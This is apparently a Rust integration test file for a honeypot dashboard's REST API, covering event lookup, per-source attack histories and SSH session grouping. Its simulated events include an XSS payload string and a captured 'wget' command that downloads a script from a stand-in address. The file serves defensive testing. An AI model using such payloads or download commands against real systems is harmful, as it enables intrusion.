//! The analyst's views over the REST API: one event by id, the story of a
//! source address (`/api/v1/sources/{ip}`) and sessions
//! (`/api/v1/sessions`, `/api/v1/sessions/{id}`), against a real core fed
//! by test nodes. Addresses are documentation ranges sent as event data;
//! nothing leaves loopback.

use std::time::Duration;

use honeybee_proto::time::{format_rfc3339, now_unix};
use honeybee_proto::{NodeStatus, PotStatus, CAP_EVENT_ACK};
use honeybee_tests::http::url_encode;
use honeybee_tests::{poll_until, Core, NodeIdentity, TestNode};
use serde_json::{json, Value};

const T: Duration = Duration::from_secs(10);
const SRC: &str = "203.0.113.50";
const HOSTILE: &str = "\"><svg onload=alert(1)>";

struct Feed {
    core: Core,
    a: (NodeIdentity, TestNode),
    b: (NodeIdentity, TestNode),
    seq: u64,
    sent: u64,
    base: i64,
}

impl Feed {
    fn new() -> Feed {
        let core = Core::start();
        let mut a = NodeIdentity::new("views-a").with_capabilities(&[CAP_EVENT_ACK]);
        let mut ca = a.enroll(core.node_addr);
        ca.must_send(&a.status(NodeStatus::Running));
        ca.must_send(&a.pot_status("cowrie-01", "cowrie", PotStatus::Running));
        let mut b = NodeIdentity::new("views-b").with_capabilities(&[CAP_EVENT_ACK]);
        let mut cb = b.enroll(core.node_addr);
        cb.must_send(&b.status(NodeStatus::Running));
        Feed {
            core,
            a: (a, ca),
            b: (b, cb),
            seq: 0,
            sent: 0,
            base: now_unix().0 - 3600,
        }
    }

    /// Sends one event; `at` is seconds after the feed's base time.
    fn send(&mut self, on_b: bool, pot: &str, ty: &str, at: i64, data: Value) {
        self.seq += 1;
        self.sent += 1;
        let (id, conn) = if on_b { &mut self.b } else { &mut self.a };
        let ts = format_rfc3339(self.base + at, 0);
        conn.must_send(&id.pot_event(pot, pot, ty, &ts, Some(self.seq), data));
    }

    /// Waits until every event sent is stored.
    fn settle(&self) {
        let want = self.sent;
        poll_until(T, Duration::from_millis(50), || {
            let n = self.core.api().get("/api/v1/stats").json()["totals"]["events"].as_u64();
            (n == Some(want)).then_some(())
        })
        .unwrap_or_else(|| panic!("{want} events not stored in time"));
    }
}

fn items(v: &Value) -> Vec<Value> {
    v["items"].as_array().cloned().unwrap_or_default()
}

#[test]
fn an_event_by_id_has_every_field() {
    let mut f = Feed::new();
    f.send(
        false,
        "cowrie-01",
        "cowrie.login.failed",
        1,
        json!({"src_ip": SRC, "username": HOSTILE, "password": "x", "nested": {"k": [1, 2]}}),
    );
    f.settle();
    let api = f.core.api();
    let listed = api.get("/api/v1/events?limit=1").json()["events"][0].clone();
    let id = listed["id"].as_i64().expect("an id");
    let one = api
        .get(&format!("/api/v1/events/{id}"))
        .expect_status(200)
        .json();
    for k in [
        "id",
        "node_id",
        "pot_id",
        "pot_type",
        "event_type",
        "timestamp",
        "seq",
        "data",
    ] {
        assert_eq!(one[k], listed[k], "{k}: {one}");
    }
    assert_eq!(one["data"]["nested"], json!({"k": [1, 2]}));
    assert_eq!(one["data"]["username"], HOSTILE);
    assert_eq!(one["node_name"], "views-a");
    api.get(&format!("/api/v1/events/{}", id + 1000))
        .expect_error(404);
    for bad in ["abc", "0", "-1", "1.5", "99999999999999999999"] {
        api.get(&format!("/api/v1/events/{bad}")).expect_error(400);
    }
    // The export route is still the export.
    assert_eq!(api.get("/api/v1/events/export").status, 200);
    let r = api.call("DELETE", &format!("/api/v1/events/{id}"), None);
    assert_eq!(r.status, 405);
}

/// What the source of the story did, in order: probes of node B's
/// Extension tripwires, then an SSH session on node A's Cowrie with
/// logins and commands; and other sources' noise in between.
fn attack(f: &mut Feed) {
    let ext = |port: u16, extra: Value| {
        let mut d =
            json!({"src_ip": SRC, "src_port": 40000 + port, "dst_port": port, "transport": "tcp"});
        if let (Value::Object(d), Value::Object(e)) = (&mut d, extra) {
            d.extend(e);
        }
        d
    };
    f.send(true, "extension", "extension.connection", 10, ext(80, json!({"protocol": "http", "method": "GET", "path": "/", "version": "HTTP/1.1", "user_agent": "Mozilla/5.0 zgrab/0.x"})));
    f.send(true, "extension", "extension.connection", 11, ext(443, json!({"protocol": "tls", "sni": "victim.example", "ja3": "771,4865-4866,0-11-10,29-23,0", "ja3_hash": "0123456789abcdef0123456789abcdef"})));
    f.send(
        true,
        "extension",
        "extension.connection",
        12,
        ext(
            22,
            json!({"protocol": "ssh", "client_version": "SSH-2.0-libssh_0.9.6"}),
        ),
    );
    f.send(true, "extension", "extension.connection", 13, ext(80, json!({"protocol": "http", "user_agent": "Mozilla/5.0 zgrab/0.x", "version": "HTTP/1.0"})));
    f.send(
        false,
        "cowrie-01",
        "cowrie.login.failed",
        14,
        json!({"src_ip": "198.51.100.1", "username": "x", "password": "y", "session": "other1"}),
    );
    // Stored before the rest: ids (the timeline's order) are arrival order
    // across connections.
    f.settle();
    let s = |extra: Value| {
        let mut d = json!({"src_ip": SRC, "src_port": 51000, "dst_port": 2222, "protocol": "ssh", "session": "c0ffee000001"});
        if let (Value::Object(d), Value::Object(e)) = (&mut d, extra) {
            d.extend(e);
        }
        d
    };
    f.send(
        false,
        "cowrie-01",
        "cowrie.session.connect",
        20,
        s(json!({})),
    );
    f.send(
        false,
        "cowrie-01",
        "cowrie.client.version",
        20,
        s(json!({"version": "SSH-2.0-Go"})),
    );
    f.send(
        false,
        "cowrie-01",
        "cowrie.client.kex",
        20,
        s(json!({"hassh": "4c94058d5e9e31659879f79fd5b46084"})),
    );
    f.send(
        false,
        "cowrie-01",
        "cowrie.login.failed",
        21,
        s(json!({"username": "root", "password": "123456"})),
    );
    f.send(
        false,
        "cowrie-01",
        "cowrie.login.failed",
        22,
        s(json!({"username": "root", "password": "123456"})),
    );
    f.send(
        false,
        "cowrie-01",
        "cowrie.login.success",
        23,
        s(json!({"username": HOSTILE, "password": "admin"})),
    );
    f.send(
        false,
        "cowrie-01",
        "cowrie.command.input",
        25,
        s(json!({"input": "uname -a"})),
    );
    f.send(
        false,
        "cowrie-01",
        "cowrie.command.input",
        27,
        s(json!({"input": HOSTILE})),
    );
    f.send(
        false,
        "cowrie-01",
        "cowrie.command.input",
        30,
        s(json!({"input": "wget http://192.0.2.1/x.sh"})),
    );
    f.send(
        false,
        "cowrie-01",
        "cowrie.session.closed",
        31,
        s(json!({"duration": 11.0})),
    );
    // A second, later session with a hostile id.
    let h = json!({"src_ip": SRC, "src_port": 51001, "dst_port": 2222, "session": HOSTILE});
    f.send(false, "cowrie-01", "cowrie.session.connect", 40, h.clone());
    let mut cmd = h.clone();
    cmd["input"] = json!("id");
    f.send(false, "cowrie-01", "cowrie.command.input", 41, cmd);
}

#[test]
fn a_source_tells_its_story() {
    let mut f = Feed::new();
    attack(&mut f);
    f.settle();
    let api = f.core.api();
    let s = api
        .get(&format!("/api/v1/sources/{SRC}"))
        .expect_status(200)
        .json();
    assert_eq!(s["ip"], SRC);
    assert_eq!(s["event_count"], 16, "{s}");
    assert_eq!(s["complete"], true);
    assert_eq!(s["first_seen"], format_rfc3339(f.base + 10, 0));
    assert_eq!(s["last_seen"], format_rfc3339(f.base + 41, 0));
    assert!(s["geo"].is_null() || s["geo"].is_object(), "{}", s["geo"]);
    // Nodes and pots in the order first touched, with names.
    let nodes = items(&s["nodes"]);
    let names: Vec<&str> = nodes
        .iter()
        .filter_map(|n| n["node_name"].as_str())
        .collect();
    assert_eq!(names, ["views-b", "views-a"], "{}", s["nodes"]);
    assert_eq!(nodes[0]["node_id"].as_u64(), Some(f.b.0.node_id));
    assert_eq!(nodes[0]["count"], 4);
    assert_eq!(nodes[1]["count"], 12);
    let pots: Vec<String> = items(&s["pots"])
        .iter()
        .filter_map(|p| p["pot_id"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(pots, ["extension", "cowrie-01"]);
    // Ports by count.
    let ports = items(&s["ports"]);
    assert_eq!(
        ports[0],
        json!({"port": 2222, "count": 12}),
        "{}",
        s["ports"]
    );
    assert_eq!(ports[1], json!({"port": 80, "count": 2}));
    assert_eq!(s["ports"]["total"], 4);
    // Credentials with counts.
    let creds = items(&s["credentials"]);
    assert_eq!(
        creds[0],
        json!({"username": "root", "password": "123456", "count": 2})
    );
    assert_eq!(
        creds[1],
        json!({"username": HOSTILE, "password": "admin", "count": 1})
    );
    // Commands in order, with time and session.
    let cmds = items(&s["commands"]);
    let typed: Vec<&str> = cmds.iter().filter_map(|c| c["input"].as_str()).collect();
    assert_eq!(
        typed,
        ["uname -a", HOSTILE, "wget http://192.0.2.1/x.sh", "id"]
    );
    assert_eq!(cmds[0]["session"], "c0ffee000001");
    assert_eq!(cmds[0]["timestamp"], format_rfc3339(f.base + 25, 0));
    assert_eq!(cmds[3]["session"], HOSTILE);
    assert_eq!(s["commands"]["total"], 4);
    // Fingerprints from every pot's field names.
    let fp = &s["fingerprints"];
    let values = |k: &str| -> Vec<String> {
        items(&fp[k])
            .iter()
            .filter_map(|v| v["value"].as_str().map(str::to_owned))
            .collect()
    };
    assert_eq!(
        values("ssh_client_versions"),
        ["SSH-2.0-Go", "SSH-2.0-libssh_0.9.6"]
    );
    assert_eq!(values("user_agents"), ["Mozilla/5.0 zgrab/0.x"]);
    assert_eq!(items(&fp["user_agents"])[0]["count"], 2);
    assert_eq!(values("sni"), ["victim.example"]);
    assert_eq!(values("ja3"), ["771,4865-4866,0-11-10,29-23,0"]);
    assert_eq!(
        items(&fp["ja3"])[0]["hash"],
        "0123456789abcdef0123456789abcdef"
    );
    assert_eq!(values("hassh"), ["4c94058d5e9e31659879f79fd5b46084"]);
    // Timeline: newest first, the whole story here, no cursor.
    let tl = s["timeline"]["events"].as_array().expect("timeline");
    assert_eq!(tl.len(), 16);
    assert_eq!(tl[0]["data"]["input"], "id");
    assert!(tl
        .windows(2)
        .all(|w| w[0]["id"].as_i64() > w[1]["id"].as_i64()));
    assert!(s["timeline"]["next_cursor"].is_null());
    // Other sources are not in it.
    assert!(!s.to_string().contains("198.51.100.1"), "{s}");

    // Errors: not an address, never seen; IPv6 percent-encoded.
    for bad in ["not-an-ip", "203.0.113", "1.2.3.4.5", "%zz", "%3Cimg%3E"] {
        api.get(&format!("/api/v1/sources/{bad}")).expect_error(400);
    }
    api.get("/api/v1/sources/192.0.2.99").expect_error(404);
    f.send(
        false,
        "cowrie-01",
        "cowrie.login.failed",
        50,
        json!({"src_ip": "2001:db8::7", "username": "u", "password": "p"}),
    );
    f.settle();
    let v6 = f
        .core
        .api()
        .get("/api/v1/sources/2001%3ADB8%3A%3A7")
        .expect_status(200)
        .json();
    assert_eq!(v6["ip"], "2001:db8::7");
    assert_eq!(v6["event_count"], 1);
}

#[test]
fn a_long_timeline_pages_on_with_its_cursor() {
    let mut f = Feed::new();
    for i in 0..230 {
        f.send(false, "cowrie-01", "cowrie.login.failed", i, json!({"src_ip": SRC, "username": format!("u{}", i % 150), "password": "p", "dst_port": 22}));
    }
    f.settle();
    let api = f.core.api();
    let s = api
        .get(&format!("/api/v1/sources/{SRC}"))
        .expect_status(200)
        .json();
    assert_eq!(s["event_count"], 230);
    let tl = s["timeline"]["events"].as_array().expect("timeline");
    assert_eq!(tl.len(), 200);
    let cursor = s["timeline"]["next_cursor"].as_str().expect("a cursor");
    let rest = api.events(&[("src_ip", SRC), ("cursor", cursor), ("limit", "1000")]);
    assert_eq!(rest.events.len(), 30);
    assert_eq!(s["credentials"]["total"], 150);
    assert_eq!(
        items(&s["credentials"]).len(),
        100,
        "lists are capped at 100 items"
    );
    assert_eq!(items(&s["credentials"])[0]["count"], 2);
}

#[test]
fn sessions_group_the_events_of_one_connection() {
    let mut f = Feed::new();
    attack(&mut f);
    f.settle();
    let api = f.core.api();
    let list = api
        .get(&format!("/api/v1/sessions?src_ip={SRC}"))
        .expect_status(200)
        .json();
    let sessions = list["sessions"].as_array().expect("sessions").clone();
    let ids: Vec<&str> = sessions
        .iter()
        .filter_map(|s| s["session"].as_str())
        .collect();
    assert_eq!(ids, [HOSTILE, "c0ffee000001"], "newest first: {list}");
    let s = &sessions[1];
    assert_eq!(s["events"], 10);
    assert_eq!(s["commands"], 3);
    assert_eq!(s["node_name"], "views-a");
    assert_eq!(s["pot_id"], "cowrie-01");
    assert_eq!(s["src_port"], 51000);
    assert_eq!(s["dst_port"], 2222);
    assert_eq!(s["first_seen"], format_rfc3339(f.base + 20, 0));
    assert_eq!(s["last_seen"], format_rfc3339(f.base + 31, 0));
    let logins: Vec<(String, bool)> = s["logins"]
        .as_array()
        .expect("logins")
        .iter()
        .map(|l| {
            (
                l["username"].as_str().unwrap_or("").to_owned(),
                l["success"] == true,
            )
        })
        .collect();
    assert_eq!(
        logins,
        [
            ("root".to_owned(), false),
            ("root".to_owned(), false),
            (HOSTILE.to_owned(), true)
        ]
    );
    // Filters: every session, by node, limit.
    let all = api.get("/api/v1/sessions").json();
    assert_eq!(all["total"], 3, "{all}");
    let on_b = api
        .get(&format!("/api/v1/sessions?node_id={}", f.b.0.node_id))
        .json();
    assert_eq!(on_b["total"], 0, "Extension events have no session");
    let one = api.get("/api/v1/sessions?limit=1").json();
    assert_eq!(one["sessions"].as_array().map(Vec::len), Some(1));
    for bad in [
        "limit=0",
        "limit=501",
        "src_ip=nope",
        "node_id=-1",
        "colour=red",
    ] {
        api.get(&format!("/api/v1/sessions?{bad}"))
            .expect_error(400);
    }

    // One session, in order, with the commands for a replay.
    for path in [
        "/api/v1/sessions/c0ffee000001".to_string(),
        format!("/api/v1/sessions/c0ffee000001?src_ip={SRC}"),
    ] {
        let one = api.get(&path).expect_status(200).json();
        assert_eq!(one["session"], "c0ffee000001");
        assert_eq!(one["event_count"], 10, "{path}: {one}");
        let types: Vec<&str> = one["events"]
            .as_array()
            .expect("events")
            .iter()
            .filter_map(|e| e["event_type"].as_str())
            .collect();
        assert_eq!(types.first(), Some(&"cowrie.session.connect"));
        assert_eq!(types.last(), Some(&"cowrie.session.closed"));
        let cmds: Vec<(String, f64)> = one["commands"]
            .as_array()
            .expect("commands")
            .iter()
            .map(|c| {
                (
                    c["input"].as_str().unwrap_or("").to_owned(),
                    c["offset_s"].as_f64().unwrap_or(-1.0),
                )
            })
            .collect();
        assert_eq!(
            cmds,
            [
                ("uname -a".to_owned(), 5.0),
                (HOSTILE.to_owned(), 7.0),
                ("wget http://192.0.2.1/x.sh".to_owned(), 10.0)
            ]
        );
        assert_eq!(one["duration_s"], 11.0);
        assert_eq!(one["src_ip"], SRC);
        assert_eq!(one["node_name"], "views-a");
    }
    // A hostile id round-trips percent-encoded.
    let h = api
        .get(&format!("/api/v1/sessions/{}", url_encode(HOSTILE)))
        .expect_status(200)
        .json();
    assert_eq!(h["session"], HOSTILE);
    assert_eq!(h["commands"][0]["input"], "id");
    api.get("/api/v1/sessions/nosuchsession").expect_error(404);
    api.get("/api/v1/sessions/c0ffee000001?src_ip=198.51.100.1")
        .expect_error(404);
    api.get("/api/v1/sessions/x?src_ip=bad").expect_error(400);
    api.get("/api/v1/sessions/%zz").expect_error(400);
}

#[test]
fn a_node_keeps_its_status_history_apart_from_its_own_events() {
    let core = Core::start();
    let mut id = NodeIdentity::new("history");
    let mut conn = id.enroll(core.node_addr);
    conn.must_send(&id.status(NodeStatus::Running));
    // A node's own event of the kind the core records statuses under.
    conn.send_raw(
        b"{\"version\":2,\"message\":{\"NodeEvent\":{\"type\":\"Status\",\"message\":\"Failed\"}}}\n",
    )
    .expect("send");
    core.api()
        .wait_node(id.node_id, T, |n| n["status"] == "Running");
    drop(conn);
    let n = core.api().wait_node(id.node_id, T, |n| {
        n["status_history"].as_array().is_some_and(|h| h.len() >= 3)
            && n["events"].as_array().is_some_and(|e| !e.is_empty())
    });
    let history: Vec<&str> = n["status_history"]
        .as_array()
        .expect("history")
        .iter()
        .filter_map(|h| h["status"].as_str())
        .collect();
    assert_eq!(history, ["Unknown", "Running", "Connected"], "{n}");
    let note = n["status_history"][2]["note"].as_str().unwrap_or("");
    assert!(note.starts_with("registered from 127.0.0.1:"), "{note}");
    assert!(n["status_history"][0]["time"].is_string());
    let own: Vec<&str> = n["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter_map(|e| e["type"].as_str())
        .collect();
    assert_eq!(own, ["Status (from the node)"], "{n}");
}
